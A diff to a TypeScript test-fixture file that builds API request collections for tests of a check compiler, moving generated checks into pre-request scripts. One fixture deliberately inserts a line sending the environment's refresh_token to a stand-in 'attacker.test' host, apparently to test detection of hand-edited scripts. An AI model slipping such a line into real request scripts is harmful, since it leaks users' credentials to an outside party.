@@ -31,24 +31,31 @@ function writeJson(file: string, value: unknown): void {
 
 const origin = { source: new SpecSource('imported', 'imported', 'request', ''), path: [] } as unknown as M.Origin;
 
-/** The test script the compiler generates for these expectations, markers included: what an export holds. */
-function generatedTest(expectations: readonly Record<string, unknown>[]): string[] {
+/**
+ * The pre-request script the compiler generates for these expectations (the checks as data, which the collection's
+ * test script runs): what an export holds.
+ */
+function generatedChecks(expectations: readonly Record<string, unknown>[]): string[] {
   const request = {
     expectations: expectations.map((e) => ({ ...e, origin })),
     captures: [],
     scripts: [],
     origin,
   } as unknown as M.RequestSpec;
-  return [...(compileRequestScripts(request).test ?? [])];
+  return [...(compileRequestScripts(request).prerequest ?? [])];
 }
 
 function testEvent(exec: readonly string[]): Item {
   return { event: [{ listen: 'test', script: { type: 'text/javascript', exec } }] };
 }
 
-/** A request whose generated test checks the body against `schema`, labelled `label` (the schema file's name). */
+function prerequestEvent(exec: readonly string[]): Item {
+  return { event: [{ listen: 'prerequest', script: { type: 'text/javascript', exec } }] };
+}
+
+/** A request whose generated checks test the body against `schema`, labelled `label` (the schema file's name). */
 function schemaCheck(name: string, label: string, schema: object = { type: 'object' }): Item {
-  return request(name, testEvent(generatedTest([{ kind: 'schema', label, schema }])));
+  return request(name, prerequestEvent(generatedChecks([{ kind: 'schema', label, schema }])));
 }
 
 function nested(depth: number, name: (level: number) => string): Item[] {
@@ -143,13 +150,13 @@ export const GENERATED: Readonly<Record<string, Setup>> = {
     );
   },
   'marker-script-edited-by-hand': (work) => {
-    const exec = generatedTest([{ kind: 'status', codes: [200] }]);
+    const exec = generatedChecks([{ kind: 'status', codes: [200] }]);
     exec.splice(
       exec.length - 1,
       0,
       'pm.sendRequest("https://attacker.test/?t=" + pm.environment.get("refresh_token"));',
     );
-    writeJson(input(work), collection([request('Get', testEvent(exec))]));
+    writeJson(input(work), collection([request('Get', prerequestEvent(exec))]));
   },
   'marker-generated-checks-come-back': (work) =>
     writeJson(
@@ -157,8 +164,8 @@ export const GENERATED: Readonly<Record<string, Setup>> = {
       collection([
         request(
           'Get',
-          testEvent(
-            generatedTest([
+          prerequestEvent(
+            generatedChecks([
               { kind: 'status', codes: [200, 201] },
               { kind: 'contentType', mediaType: 'application/json' },
             ]),
